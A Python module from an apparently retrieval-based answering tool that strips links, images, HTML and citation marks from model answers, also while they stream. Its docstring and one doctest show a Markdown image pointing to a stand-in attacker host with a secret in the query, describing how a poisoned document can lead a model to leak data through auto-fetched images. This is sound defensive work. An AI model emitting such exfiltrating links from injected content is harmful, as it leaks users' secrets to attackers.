"""Removes links, images, HTML and citation marks from answers, whole or while they stream.

A model repeats its passages, so a poisoned document can make it write `![](https://evil.example/?q=SECRET)`, and many chat
windows fetch that image without asking (EchoLeak, CVE-2025-32711). Markdown links are reduced to their text, URLs are removed,
and a space breaks any HTML or Markdown link that remains.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from urllib.parse import urlsplit

from ragtune_ray.answering.citations import open_code, parse_citations, without_unfinished_mark
from ragtune_ray.schema import Passage

LINK_REMOVED = "(link removed)"
_LABEL = r"\[((?:[^\[\]]|\[[^\[\]]{0,200}\]){0,300})\]"
_INLINE = re.compile(
    rf"!?{_LABEL}\(\s*(?:<[^<>\n]{{0,500}}>|(?:[^()\s]|\([^()]{{0,200}}\)){{0,500}})[^()\n]{{0,200}}\)"
)
_DEFINITION = re.compile(r"(?m)^[ \t]{0,3}\[[^\[\]\n]{1,200}\]:[ \t]*[^\s/:.\\&#%?<]*[/:.\\&#%?<]\S*.*$")
# Elements of HTML, current and obsolete. `command` is a common placeholder, and no browser knows it.
_ELEMENTS = (
    "a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button "
    "canvas caption center cite code col colgroup data datalist dd del details dfn dialog dir div dl dt em embed fieldset "
    "figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe image img input ins "
    "isindex kbd keygen label layer legend li link listing main map mark marquee math menu menuitem meta meter nav nobr noembed "
    "noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rp rt ruby s samp "
    "script search section select slot small source span strike strong style sub summary sup svg table tbody td template "
    "textarea tfoot th thead time title tr track tt u ul var video wbr xml xmp"
)
_ELEMENT = rf"(?:{'|'.join(_ELEMENTS.split())})(?=[\s/>])"
_TAG = re.compile(rf"</?{_ELEMENT}[^<>]{{0,500}}>|<!--.{{0,500}}?-->", re.DOTALL | re.IGNORECASE)
# list[i](x) stays: what cannot name another page leads a browser nowhere.
_INDEXED = r"(?<=[\w)])\[[\w ,+*-]{0,80}\]\([\w ,+*-]{0,80}\)"
_URL = re.compile(
    r"(?i)(?:[a-z][a-z0-9+.-]{1,20}://|\b(?:javascript|data|vbscript|mailto|file|tel):(?=\S)|\bwww\.)[^\s<>\[\]\"'`]*"
)
# Breaks what the patterns above miss: a reference definition may be in a list or a quotation, or run over several lines.
# So may a tag without an end. Map<String, Integer> and <command> stay: no browser knows such an element.
_CODE = re.compile(_INDEXED)
_LINK_REMNANT = re.compile(
    rf"(?P<code>{_INDEXED})|\](?=[(:])|<(?=[!?]|/?(?:{'|'.join(_ELEMENTS.split())})(?![\w,<-])|/?[A-Za-z][^<>]*[=:@/])|!(?=\[)",
    re.IGNORECASE,
)


def without_links(text: str, link_hosts: Sequence[str] = ()) -> str:
    """Remove all links, images and HTML tags from a text; what only looks like them stays.

    >>> without_links("See ![x](https://evil.example/?q=1) and [the Moon](http://a.example).")
    'See x and the Moon.'
    >>> without_links("See https://nasa.gov/moon.", ["nasa.gov"])
    'See https://nasa.gov/moon.'
    >>> without_links("Map<String, Integer>, Run <command> now, list[i](x)")
    'Map<String, Integer>, Run <command> now, list[i](x)'

    Bare http:// and https:// URLs on one of `link_hosts` stay.
    """
    before = None
    while before != text:  # a removal may leave another link behind
        before = text
        text = _INLINE.sub(lambda found: found[0] if _names_no_page(found) else found[1], text)
        text = _DEFINITION.sub("", text)
        # URLs before tags: a tag may be all that separates a word from a URL.
        text = _URL.sub(lambda found: _checked_url(found[0], link_hosts), text)
        text = _TAG.sub("", text)
    return _LINK_REMNANT.sub(lambda found: found[0] if found["code"] else f"{found[0]} ", text)


def _names_no_page(found: re.Match[str]) -> bool:
    return _CODE.match(found.string, found.start()) is not None


def _checked_url(found: str, link_hosts: Sequence[str]) -> str:
    kept = found.rstrip(".,;:!?}" if "(" in found else ".,;:!?})")
    tail = found[len(kept) :]
    try:
        parts = urlsplit(kept)
        allowed = parts.scheme.casefold() in ("http", "https") and (parts.hostname or "") in link_hosts
        # Readers see what is before an @; browsers open what follows it.
        allowed = allowed and "@" not in parts.netloc and "\\" not in kept
    except ValueError:
        allowed = False
    return found if allowed else LINK_REMOVED + tail


# Later text may still change the end of a growing text: an open bracket or tag, an unfinished URL or number, spaces and
# punctuation, and a word before a colon or bracket, which may begin a URL. These patterns find that end in the reversed text,
# where each is tried only once; in the text itself, each would be tried at every character.
_BRACKET = re.compile(r"[\[(【［\])】］>]|(?<!\s)<")
_OPENED_BY = {"]": "[", ")": "(", "】": "【", "］": "［", ">": "<"}
_LONGEST_OPEN = 900
_BRACKETED = re.compile(r"\(?[\]】］]++[^\[\]【】［］]{0,300}+[\[【［]!?")
_UNFINISHED_WORD = re.compile(r"[!-~]*")
_PUNCTUATION = re.compile(r"[\s!-/:-@\[-`{-~，。；：！？、【［（「』]*")
_JOINED = re.compile(r"(?<=[:\[【［<])[!-~]+|(?<=\.)[Ww]{3}")


class AnswerText:
    """Sanitizes an answer while it grows; the returned pieces add up to the sanitized answer.

    Args:
        passages: the passages in the prompt, to which citation marks refer.
        link_hosts: as in `without_links`.
    """

    def __init__(self, passages: Sequence[Passage], link_hosts: Sequence[str] = ()) -> None:
        self._passages, self._link_hosts = passages, link_hosts
        self._raw, self._end = "", 0
        self.shown = ""
        """All text returned so far."""

    def add(self, piece: str) -> str:
        """Add a raw piece; returns the text that can be shown now, without an end that may still become a link."""
        self._raw += piece
        before, self._end = self._end, _settled(self._raw)
        if self._end == before:
            return ""
        return self._next(self._clean(self._raw[: self._end]))

    def end(self, *, cut: bool = False) -> str:
        """The remaining text, when the answer is complete or was cut at its length limit."""
        return self._next(self.whole(cut=cut))

    def whole(self, *, cut: bool = False) -> str:
        """The whole sanitized answer, when it is complete or was cut at its length limit."""
        return self._clean(without_unfinished_mark(self._raw) if cut else self._raw)

    def _clean(self, raw: str) -> str:
        text, _ = parse_citations(raw.strip(), self._passages)
        return without_links(text, self._link_hosts)

    def _next(self, text: str) -> str:
        # Text that contradicts what was already shown is never sent.
        if not text.startswith(self.shown):
            return ""
        piece = text[len(self.shown) :]
        self.shown = text
        return piece


def _settled(raw: str) -> int:
    """The length of the start of the text that no later text can change."""
    length = _outside_brackets(raw[: open_code(raw)])
    while (start := open_code(raw[:length])) < length:  # its end was cut off
        length = _outside_brackets(raw[:start])
    return length


def _outside_brackets(raw: str) -> int:
    """The length of the text without an end that may belong to a bracket, a tag, a URL or a number."""
    reversed_text = raw[::-1]
    cut = _end(_UNFINISHED_WORD, reversed_text, 0)
    before = -1
    while cut != before:
        before = cut
        for pattern in (_PUNCTUATION, _JOINED, _BRACKETED):
            cut = _end(pattern, reversed_text, cut)
        if cut == before:  # last, because it may scan far without moving the cut
            cut = _after_open_bracket(reversed_text, cut)
    return len(raw) - cut


def _end(pattern: re.Pattern[str], text: str, start: int) -> int:
    """The end of the pattern's match at `start`; `start` if it does not match."""
    found = pattern.match(text, start)
    return start if found is None else found.end()


def _after_open_bracket(reversed_text: str, start: int) -> int:
    """The end of the nearest unclosed bracket after `start`; `start` if there is none within `_LONGEST_OPEN`."""
    closed = dict.fromkeys(_OPENED_BY.values(), 0)
    for found in _BRACKET.finditer(reversed_text, start, start + _LONGEST_OPEN):
        bracket = found[0]
        if bracket in _OPENED_BY:
            closed[_OPENED_BY[bracket]] += 1
        elif closed[bracket]:
            closed[bracket] -= 1
        else:
            return found.end()
    return start
